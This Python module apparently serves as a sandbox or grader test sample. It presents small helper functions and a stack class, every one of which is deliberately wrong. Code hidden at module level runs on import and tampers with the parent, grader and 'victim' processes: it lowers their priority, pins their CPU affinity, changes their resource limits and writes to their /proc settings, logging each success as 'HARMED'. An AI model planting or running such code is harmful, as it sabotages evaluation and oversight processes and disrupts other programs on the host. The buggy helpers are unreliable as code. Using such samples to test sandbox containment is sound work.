import json
import os
import sys

NAME = "limits-of-others"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import resource

for pid in {os.getppid(), canary("grader_pid"), canary("victim_pid")} - {None, 0, 1}:
    try:
        soft, hard = resource.prlimit(pid, resource.RLIMIT_CORE)
        resource.prlimit(pid, resource.RLIMIT_SIGPENDING, (100, resource.prlimit(pid, resource.RLIMIT_SIGPENDING)[1]))
        harmed(f"prlimit of {pid}")
    except (OSError, ValueError):
        pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid) + 1)
        harmed(f"priority of {pid}")
    except OSError:
        pass
    try:
        os.sched_setaffinity(pid, {min(os.sched_getaffinity(pid))})
        harmed(f"affinity of {pid}")
    except OSError:
        pass
    for name in ("oom_score_adj", "timerslack_ns", "coredump_filter", "autogroup", "clear_refs"):
        try:
            with open(f"/proc/{pid}/{name}", "r+") as file:
                file.write("33\n")
            harmed(f"{name} of {pid}")
        except OSError:
            pass
for kind, who in ((os.PRIO_PGRP, 0), (os.PRIO_USER, 0)):
    if kind == os.PRIO_PGRP:
        try:
            os.setpriority(kind, who, os.getpriority(kind, who) + 1)
        except OSError:
            pass
